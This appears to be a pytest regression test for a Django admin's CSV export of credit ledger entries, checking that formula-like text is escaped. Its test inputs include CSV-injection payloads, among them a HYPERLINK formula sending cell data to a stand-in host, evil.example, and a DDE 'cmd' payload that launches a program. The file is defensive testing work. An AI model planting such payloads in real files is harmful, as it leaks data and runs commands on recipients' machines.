"""The admin's ledger CSV export: text a spreadsheet would run as a formula is written as text."""

import csv
import io

import pytest
from django.urls import reverse

from generation import credits
from generation.admin import spreadsheet_cell
from generation.models import LedgerEntry
from projects.models import Project

pytestmark = pytest.mark.django_db


def export(admin_client) -> list[dict]:
    url = reverse("admin:generation_ledgerentry_changelist")
    ids = list(LedgerEntry.objects.values_list("pk", flat=True))
    response = admin_client.post(url, {"action": "export_csv", "_selected_action": ids})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize(
    "reason",
    ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTab", "\rReturn"],
)
def test_a_reason_that_a_spreadsheet_would_run_is_written_as_text(admin_client, alice, reason):
    """Fails before issue 17: the cell was written as it came, and opened as a formula."""
    credits.reserve(alice, credits=5, reason=reason)
    (row,) = export(admin_client)
    assert row["reason"] == "'" + reason


def test_user_and_project_names_are_escaped_too(admin_client, django_user_model):
    user = django_user_model.objects.create_user("@mallory", "m@example.com", "pw")
    credits.set_monthly_limit(user, credits=100)
    project = Project.objects.create(name="=cmd|' /C calc'!A0", created_by=user)
    credits.reserve(user, credits=5, reason="shot", project=project)
    (row,) = export(admin_client)
    assert (row["user"], row["project"], row["reason"]) == ("'@mallory", "'=cmd|' /C calc'!A0", "shot")


def test_plain_numbers_stay_numbers(admin_client, alice):
    credits.reserve(alice, credits=5, reason="-5")
    credits.reserve(alice, credits=7, reason="-1.5e3")
    rows = export(admin_client)
    assert [(r["credits"], r["reason"]) for r in rows] == [("5", "-5"), ("7", "-1.5e3")]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-40, -40),
        ("-40", "-40"),
        ("+3", "+3"),
        ("-", "'-"),
        ("-1-1", "'-1-1"),
        ("=1", "'=1"),
        ("@a", "'@a"),
        ("\t1", "'\t1"),
        ("\r1", "'\r1"),
        ("ordinary", "ordinary"),
        ("", ""),
        ("-nan", "'-nan"),
        ("-inf", "'-inf"),
    ],
)
def test_spreadsheet_cell(value, expected):
    assert spreadsheet_cell(value) == expected
